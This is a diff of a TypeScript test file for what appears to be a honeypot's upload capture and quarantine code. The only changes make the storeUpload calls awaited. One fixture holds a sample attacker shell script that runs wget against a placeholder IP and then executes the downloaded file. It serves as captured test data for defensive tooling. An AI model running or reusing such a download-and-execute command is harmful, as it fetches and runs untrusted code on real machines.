@@ -8,7 +8,7 @@ import { fetchSchema, quarantineSchema } from '../../src/config/schema.js';
 import { createCapture, storeUpload, UploadBuffer } from '../../src/sensors/runtime/capture.js';
 import { tempDir } from '../helpers/apiary-process.js';
 
-test('uploads are capped, stored by SHA-256, and give their memory back', () => {
+test('uploads are capped, stored by SHA-256, and give their memory back', async () => {
   const capture = createCapture(tempDir(), fetchSchema.parse({}), quarantineSchema.parse({}));
   const events: { type: string; p: Record<string, unknown> }[] = [];
   const emitter = { emit: (type: string, p: Record<string, unknown>) => void events.push({ type, p }) };
@@ -18,14 +18,14 @@ test('uploads are capped, stored by SHA-256, and give their memory back', () => 
   a.write(Buffer.from('789abcdef'));
   assert.equal(a.offered, 16);
   assert.equal(UploadBuffer.memoryInUse - before, 10);
-  const q = storeUpload(capture, emitter as never, '/upload/x.bin', a);
+  const q = await storeUpload(capture, emitter as never, '/upload/x.bin', a);
   assert.ok(q, 'stored');
   assert.equal(UploadBuffer.memoryInUse, before, 'memory released after storing');
   assert.equal(q.sha256, createHash('sha256').update('0123456789').digest('hex'));
   assert.equal(readFileSync(capture.quarantine.pathOf(q.sha256), 'utf8'), '0123456789');
   const b = new UploadBuffer(100, '127.0.0.1');
   b.write(Buffer.from('0123456789'));
-  storeUpload(capture, emitter as never, '/again.bin', b);
+  await storeUpload(capture, emitter as never, '/again.bin', b);
   assert.deepEqual(events.map((e) => [e.type, e.p.filename, e.p.size, e.p.outcome]), [
     ['file.upload', '/upload/x.bin', 16, 'truncated'],
     ['file.upload', '/again.bin', 10, 'duplicate'],
@@ -65,7 +65,7 @@ test('one source holding uploads open cannot take the upload memory from another
     const small = new UploadBuffer(max, '127.0.0.3');
     const sent = Buffer.from('#!/bin/sh\ncd /tmp; wget http://192.0.2.1/x; sh x\n\x00\x01');
     small.write(sent);
-    const q = storeUpload(capture, emitter as never, '/upload/small.sh', small);
+    const q = await storeUpload(capture, emitter as never, '/upload/small.sh', small);
     assert.ok(q);
     assert.equal(q.sha256, createHash('sha256').update(sent).digest('hex'), 'kept whole');
     assert.deepEqual(readFileSync(capture.quarantine.pathOf(q.sha256)), sent);
@@ -73,7 +73,7 @@ test('one source holding uploads open cannot take the upload memory from another
     // The flood's own uploads past its share are recorded as dropped, by the hash of what arrived.
     const last = flood[flood.length - 1]!;
     assert.equal(last.dropped, true);
-    storeUpload(capture, emitter as never, '/upload/big.bin', last);
+    await storeUpload(capture, emitter as never, '/upload/big.bin', last);
     const whole = createHash('sha256');
     for (let i = 0; i < max / mib.length; i++) whole.update(mib);
     assert.deepEqual(events.map((e) => [e.p.filename, e.p.size, e.p.outcome]), [
